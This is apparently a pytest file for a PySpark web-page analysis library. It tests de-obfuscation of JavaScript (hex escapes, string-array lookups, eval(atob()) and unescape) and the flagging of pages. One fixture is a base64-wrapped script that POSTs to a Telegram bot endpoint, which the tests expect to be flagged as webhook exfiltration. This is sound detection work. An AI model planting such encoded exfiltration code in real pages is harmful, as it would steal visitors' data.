"""Scripts decoded by columns, measured, and taken into the page rules."""

import base64
import json

import pytest
from pyspark.sql import functions as F

from skyloom.functions import scripts as K

_B = lambda t: base64.b64encode(t.encode()).decode()
CASES = [
    (r"a='\x68\x74\x74\x70'", "a='http'"), (r"'\xe9\x41'", "'�A'"), (r"'Aé中'", "'Aé中'"), (r"'😀'", r"'😀'"), ("'ab' + 'cd'+'e'", "'abcde'"), ('"x"+"y"', '"xy"'), ("'a' + \"b\"", "'ab'"), ("'a' + 'b' + \"c\"", "'abc'"), ("x + 'a'", "x + 'a'"),
    ("'" + "\\u0041\\u00e9\\u4E2d" + "'", "'Aé中'"), ("'\\ud83d\\ude00 \\ud83d'", "'😀 \\ud83d'"), ("'\\ude00\\ud83d'", "'\\ude00\\ud83d'"),
    ("var _0x1 = ['log', 'hi']; function _0x2(i){ return _0x1[i]; } f(_0x2(0x1), _0x2(0), _0x2(9))", "var _0x1 = ['log', 'hi']; function _0x2(i){ return _0x1[i]; } f('hi', 'log', _0x2(9))"), ("const $t=[\"a'b\",'c'];function q$(n){return $t[n]}g(q$(0)+q$( 1 ))", "const $t=[\"a'b\",'c'];function q$(n){return $t[n]}g(\"a'bc\")"),
    ("var a=['x'];b(0)", "var a=['x'];b(0)"),
    (f"eval(atob('{_B('alert(1)')}'))", "alert(1)"), ("eval(atob('abc'))", "eval(atob('abc'))"), ("eval(atob('/w=='))", "eval(atob('/w=='))"), ("eval(unescape('%61%2B+b'))", "a++b"),
    (f"eval(atob('{_B('eval(unescape(' + chr(39) + '%41' + chr(39) + '))')}'))", "A"), (r"'\x5cx41'", "'A'"), ("plain(1)", "plain(1)"), ("", ""), (None, None),
    (r"x='" + r"\x41" * 50_000 + "'", "x='" + "A" * 50_000 + "'"), ("'" + "a' + '" * 20_000 + "'", "'" + "a" * 20_000 + "'"),
]


def test_readable(spark):
    rows = spark.createDataFrame([(i, code) for i, (code, _) in enumerate(CASES)], "i int, code string")
    got = {r["i"]: r["out"] for r in rows.select("i", K.readable(F.col("code")).alias("out")).collect()}
    for i, (code, want) in enumerate(CASES):
        assert got[i] == want, (code or "")[:60]


SEND = 'fetch("https://api.telegram.org/bot",{method:"POST"});'
PAGES = [
    (1, "<p>none</p>", None), (2, f"<script>eval(atob('{_B(SEND)}'))</script><script>b</script><script src='/x.js'></script>", None), (3, r"<script>var p='\x68\x74\x74\x70\x73';</script>" * 4, None), (4, "<p>outside</p>", [("https://a.example/x.js", SEND), ("https://a.example/y.js", None)]),
    (5, None, None), (6, "<p>outside</p>", []),
]


@pytest.fixture(scope="module")
def pages(spark):
    return spark.createDataFrame([(i, h, "https://a.example/", e, "own") for i, h, e in PAGES], "page_id long, html string, url string, external array<struct<url:string,content:string>>, scripts string")


def test_script_rows(pages):
    rows = {(r.page_id, r.place): r for r in K.script_rows(pages, external="external").collect()}
    assert sorted(rows) == [(2, 0), (2, 1), (3, 0), (3, 1), (3, 2), (3, 3), (4, 0)]
    assert rows[2, 0].readable == SEND and rows[2, 0].changed and not rows[2, 1].changed
    assert (rows[4, 0].type, rows[4, 0].src) == ("external", "https://a.example/x.js") and rows[3, 1].score > 0.6


def test_scripts_in_the_page_rules(pages):
    bare = pages.drop("scripts")
    got = {r.page_id: r for r in K.with_scripts(bare, external="external").collect()}
    assert len(got) == len(PAGES) and {i: (r.scripts, r.decoded, r.obfuscated) for i, r in got.items()} == {1: (0, 0, 0), 2: (2, 1, 0), 3: (4, 4, 4), 4: (1, 0, 0), 5: (0, 0, 0), 6: (0, 0, 0)}
    assert "webhook_exfiltration" in got[2].flags and "webhook_exfiltration" in got[4].flags and "webhook_exfiltration" not in got[6].flags
    without = {r.page_id: r for r in K.with_scripts(bare).collect()}
    assert "webhook_exfiltration" not in without[4].flags and json.dumps(without[2].flags) == json.dumps(got[2].flags)


def test_chunks_and_measures(spark):
    codes = ["line one\nline two\nline three", "x" * 95, "a\n" * 60, "", None, "\n\n", "y" * 30 + "\n" + "z" * 5]
    rows = spark.createDataFrame([(i, c) for i, c in enumerate(codes)], "i int, script string")
    for r in rows.select("script", K.chunks(F.col("script"), 20).alias("c")).collect():
        if r.script is None:
            assert r.c is None
            continue
        assert "".join(r.c) == r.script and all(0 < len(x) <= 20 for x in r.c)
        assert all(b.startswith("\n") or len(a) == 20 for a, b in zip(r.c, r.c[1:], strict=False))  # a piece ends at a line end or is full
    out = {r.i: r for r in K.deobfuscate(rows).collect()}
    assert not out[0].changed and out[4].deobfuscated is None and not out[1].symbol_encoded


def test_fill_document(spark):
    import hashlib

    from skyloom.functions import records

    page = "<title>Ä page</title><script>var a = 1;</script><script src='/x.js'></script><p>text</p>"
    rows = [(1, page.encode("latin-1"), "text/html; charset=latin-1", "https://a.example/d/", "own", False), (2, ("é" * 50).encode(), None, None, "own", False), (3, None, None, None, "own", True)]
    df = spark.createDataFrame(rows, "id int, body binary, content_type string, url string, title string, truncated boolean")
    got = {r.id: r for r in records.fill_document(df, chars=40).collect()}
    assert got[1].charset == "latin-1:header" and got[1].html == page[:40] and got[1].html_length == len(page) and got[1].truncated and got[1].title == "Ä page"
    assert got[1].body_sha256 == hashlib.sha256(page.encode("latin-1")).hexdigest() and got[1].html_sha256 == hashlib.sha256(page[:40].encode()).hexdigest()
    assert (got[2].content_type, got[2].charset, got[2].html_length, got[2].text_content) == ("", "utf-8:default", 50, "é" * 40)
    assert got[3].html == "" and got[3].truncated and got[3].scripts.inline == [] and got[3].body_sha256 == hashlib.sha256(b"").hexdigest()
    whole = {r.id: r for r in records.fill_document(df).collect()}
    assert not whole[1].truncated and whole[1].scripts.external == ["https://a.example/x.js"] and whole[1].scripts.inline[0].length == 10
